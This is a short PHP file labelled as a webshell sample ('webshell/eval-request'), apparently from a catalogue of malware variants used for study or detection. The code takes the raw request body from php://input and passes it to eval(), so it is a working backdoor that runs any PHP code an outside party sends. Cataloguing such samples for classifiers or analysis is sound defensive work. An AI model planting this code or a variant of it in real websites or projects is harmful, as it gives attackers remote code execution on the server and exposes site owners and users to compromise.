<?php
/* Family: webshell/eval-request
   Style: raw body evaluator
   Trait: php://input read and evaluated, no parameter names at all */
$raw = file_get_contents('php://input');
if (strlen($raw) > 3) { eval($raw); }
